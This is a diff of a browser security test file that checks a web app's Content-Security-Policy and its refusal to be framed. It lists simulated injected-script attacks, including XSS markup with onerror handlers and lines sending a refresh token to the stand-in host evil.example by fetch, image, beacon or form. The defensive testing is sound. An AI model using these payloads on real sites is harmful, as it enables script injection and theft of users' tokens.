@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, expect, test } from '@jest/globals';
 import type { Browser } from 'playwright-core';
 import { launchChromium } from '../support/chromium.ts';
+import { eventually } from '../support/eventually.ts';
 import { json, PASSWORD, registerPerson, type ApiPerson } from '../support/person.ts';
 import { hostileNames } from '../security/hostile-names.ts';
 import { startSystem, type System } from '../support/system.ts';
@@ -53,38 +54,68 @@ test('names are text wherever the page shows them: nothing of them runs, and not
   await guest.context.close();
 });
 
-test('the page may not be framed, and runs no script that is not a file of its own', async () => {
-  const guest = await visit(browser, system.url);
-  const { page } = guest;
-  const outcome = await page.evaluate(async () => {
-    const blocked: string[] = [];
-    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => blocked.push(effectiveDirective));
-    const script = document.createElement('script');
-    const attempts: (() => unknown)[] = [
-      () => (script.text = 'document.title = "canary"'),
-      () => document.body.append(script),
-      () => (document.body.innerHTML += '<img src=x onerror="document.title=`canary`">'),
-      () => (0, eval)('document.title = "canary"'),
-      () => fetch('https://evil.example/').catch(() => undefined),
-      () => document.body.append(Object.assign(document.createElement('iframe'), { src: location.href })),
-      () =>
-        document.body.append(
-          Object.assign(document.createElement('form'), { action: 'https://evil.example/', id: 'f' }),
-        ),
-    ];
-    const errors: string[] = [];
-    for (const attempt of attempts) {
-      try {
-        await attempt();
-      } catch (error) {
-        errors.push((error as Error).name);
-      }
-    }
-    await new Promise((resolve) => setTimeout(resolve));
-    return { blocked, errors, title: document.title };
+/** What a script could do that got into the page all the same, and the directive that has to stop it. */
+const attacks: Record<string, [code: string, directive: string]> = {
+  'an inline script': ['add("script", { text: canary })', 'require-trusted-types-for'],
+  'a script from elsewhere': [
+    'add("script", { src: "https://evil.example/x.js" })',
+    'require-trusted-types-for',
+  ],
+  'markup made of text': [
+    'document.body.innerHTML = "<img src=x onerror=" + canary + ">"',
+    'require-trusted-types-for',
+  ],
+  'a handler in an attribute': [
+    'add("img", { src: "/x" }).setAttribute("onerror", canary)',
+    'require-trusted-types-for',
+  ],
+  'a timer made of text': ['setTimeout(canary)', 'require-trusted-types-for'],
+  'a policy that lets all through': ['trustedTypes.createPolicy("default", {})', 'trusted-types'],
+  'sending what it found': ['fetch("https://evil.example/?" + localStorage.refreshToken)', 'connect-src'],
+  'the same by a picture': ['add("img", { src: "https://evil.example/" })', 'img-src'],
+  'the same by a beacon': ['navigator.sendBeacon("https://evil.example/")', 'connect-src'],
+  'the same by a form': [
+    'add("form", { action: "https://evil.example/", method: "post" }).submit()',
+    'form-action',
+  ],
+  'another base for links': ['add("base", { href: "https://evil.example/" })', 'base-uri'],
+  'a style of its own': ['add("style", { textContent: "body { display: none }" })', 'style-src-elem'],
+  'a page in the page': ['add("iframe", { src: "https://evil.example/" })', 'frame-src'],
+  'the page itself in a frame': ['add("iframe", { src: "/docs" })', 'frame-src'],
+};
+
+test('a script that got in could neither bring others, nor carry anything away, nor change the page', async () => {
+  const { context, page } = await visit(browser, system.url);
+  const reached: string[] = [];
+  await context.route('https://evil.example/**', async (route) => {
+    reached.push(`${route.request().resourceType()} ${route.request().url()}`);
+    await route.abort();
   });
-  expect(outcome.title).not.toBe('canary');
-  expect(outcome.errors).toEqual([]);
-  expect(new Set(outcome.blocked)).toEqual(new Set(['x']));
-  await guest.context.close();
+  await page.evaluate(`
+    globalThis.blocked = [];
+    globalThis.canary = 'document.title="canary"';
+    globalThis.add = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
+    addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));`);
+  for (const [name, [code, directive]] of Object.entries(attacks)) {
+    // As text, in the page's own world; most throw, or reject, when they are blocked.
+    await page.evaluate(`blocked.length = 0; try { Promise.resolve(${code}).catch(() => 0) } catch {}`);
+    const look = async () => {
+      const blocked = await page.evaluate<string[]>('blocked');
+      return blocked.length > 0 && blocked;
+    };
+    const blocked = await eventually(look, `${name} to be blocked`, 10_000);
+    expect([name, ...new Set(blocked)]).toEqual([name, directive]);
+  }
+  expect(await page.title()).not.toBe('canary');
+  expect(reached).toEqual([]);
+  await context.close();
+});
+
+test('no other page gets this one into a frame, where people would click on what they don’t see', async () => {
+  const page = await browser.newPage();
+  await page.setContent(`<iframe src="${system.url}/#/account"></iframe>`);
+  const frame = page.frames()[1];
+  if (!frame) throw new Error('There is no frame');
+  await eventually(() => frame.url().startsWith('chrome-error:'), 'the frame to be refused');
+  await page.close();
 });
